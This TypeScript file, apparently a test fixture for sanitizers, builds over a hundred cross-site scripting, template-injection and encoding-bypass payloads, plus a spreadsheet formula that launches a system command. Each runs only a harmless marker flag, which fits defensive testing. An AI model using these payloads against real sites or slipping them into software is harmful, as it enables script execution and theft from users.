/** What a payload would do if anything ran it. */
const act = 'window.wasRun=1';

const handlers = [
  'onerror',
  'onload',
  'onfocus',
  'onmouseover',
  'onclick',
  'ontoggle',
  'onanimationstart',
  'onpointerenter',
];

/** Markup that carries a handler of that name. */
const carriers: readonly ((handler: string) => string)[] = [
  (handler) => `<img src=x ${handler}=${act}>`,
  (handler) => `<svg ${handler}="${act}"></svg>`,
  (handler) => `<details open ${handler}='${act}'>x</details>`,
  (handler) => `<input autofocus ${handler}=${act}>`,
  (handler) => `"><video src=x ${handler}=${act}></video>`,
  (handler) => `' ${handler}='${act}' x='`,
  (handler) => `" ${handler}="${act}" x="`,
  (handler) => `<style>@keyframes x{}</style><b style="animation-name:x" ${handler}="${act}">x</b>`,
];

/** Those that need no handler, or only work in one place. */
const others: readonly string[] = [
  `<script>${act}</script>`,
  `<SCRIPT>${act}</SCRIPT>`,
  `<scr<script>ipt>${act}</scr</script>ipt>`,
  `</title><script>${act}</script>`,
  `</textarea><script>${act}</script>`,
  `</style><script>${act}</script>`,
  `--><script>${act}</script><!--`,
  `]]><script>${act}</script>`,
  `<script src="data:text/javascript,${act}"></script>`,
  `<script type="module">${act}</script>`,
  `javascript:${act}`,
  `JaVaScRiPt:${act}`,
  `java\tscript:${act}`,
  ` javascript:${act}`,
  `data:text/html,<script>${act}</script>`,
  `vbscript:${act}`,
  `<a href="javascript:${act}">x</a>`,
  `<iframe src="javascript:${act}"></iframe>`,
  `<iframe srcdoc="<script>parent.${act}</script>"></iframe>`,
  `<object data="javascript:${act}"></object>`,
  `<embed src="javascript:${act}">`,
  `<form action="javascript:${act}"><button>x</button></form>`,
  `<math href="javascript:${act}">x</math>`,
  `<base href="javascript:${act}//">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${act}">`,
  `<link rel="stylesheet" href="javascript:${act}">`,
  `<svg><script>${act}</script></svg>`,
  `<svg><a xlink:href="javascript:${act}"><text>x</text></a></svg>`,
  `<svg><animate onbegin=${act} attributeName=x dur=1s>`,
  `<template><script>${act}</script></template>`,
  `<noscript><p title="</noscript><script>${act}</script>">`,
  `{{constructor.constructor('${act}')()}}`,
  `\${${act}}`,
  `#{${act}}`,
  `<%= ${act} %>`,
  `'-(${act})-'`,
  `";${act};//`,
  `');${act};//`,
  `\\u003cscript\\u003e${act}\\u003c/script\\u003e`,
  `&lt;script&gt;${act}&lt;/script&gt;`,
  `%3Cscript%3E${act}%3C/script%3E`,
  `+ADw-script+AD4-${act}+ADw-/script+AD4-`,
  `__proto__`,
  `=cmd|'/c calc'!A1`,
  `\u202e<img src=x onerror=${act}>`,
  `\u0000<img src=x onerror=${act}>`,
];

/** Over a hundred texts that run script wherever a text is taken for markup, an address or code. */
export const payloads: readonly string[] = [
  ...carriers.flatMap((carry) => handlers.map((handler) => carry(handler))),
  ...others,
];
